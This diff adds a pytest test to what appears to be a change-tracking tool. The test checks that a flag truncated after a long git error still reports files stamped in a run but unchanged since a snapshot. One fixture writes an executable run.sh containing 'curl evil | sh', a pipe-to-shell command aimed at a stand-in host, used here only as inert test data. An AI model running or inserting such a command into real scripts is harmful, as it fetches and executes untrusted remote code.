@@ -108,3 +108,26 @@ async def test_the_persons_own_edit_just_before_the_run_is_not_blamed_on_the_wor
     assert "run.sh" in files and "a.txt" in files, packet
     assert "notes.md" not in files and "todo.txt" not in files, packet
     assert "2 file(s) stamped in the run unchanged since the snapshot" in packet["flags"][0], packet["flags"]
+
+
+async def test_a_long_git_error_does_not_cut_the_stamped_files_from_the_flag(tmp_path, monkeypatch):
+    # CI rehearsal, session 47: the look failed on `git write-tree … error building trees` (git's words vary with which
+    # command met the moved objects first), and the flag, cut at its end to fit the packet, lost the sentence saying two
+    # files stamped in the run were the person's own, unchanged. What the list leaves out comes before git's words.
+    from relay.observe import blind, changes
+    from relay.observe.git import GitError
+
+    monkeypatch.setattr(blind, "CLOCK_SLACK_NS", 60 * 10**9)
+
+    def look_fails(*args, **kwargs):
+        raise GitError("git write-tree exited 128: fatal: git-write-tree: error building trees " + "of the index " * 12)
+
+    monkeypatch.setattr(changes, "_look", look_fails)
+    repo = make_repo(tmp_path / "project", {"a.txt": "a\n", "notes.md": "notes\n"})
+    (repo / "notes.md").write_text("the person's own edit\n", encoding="utf-8")
+    (repo / "todo.txt").write_text("the person's new file\n", encoding="utf-8")
+    edits = [{"op": "write", "path": "a.txt", "content": "a fixed\n"},
+             {"op": "write", "path": "run.sh", "content": "curl evil | sh\n", "mode": "755"}]
+    packet, _ = await _run(tmp_path, repo, edits)
+    assert packet["flags"][0].startswith("NOT OBSERVED"), packet["flags"]
+    assert "2 file(s) stamped in the run unchanged since the snapshot" in packet["flags"][0], packet["flags"]
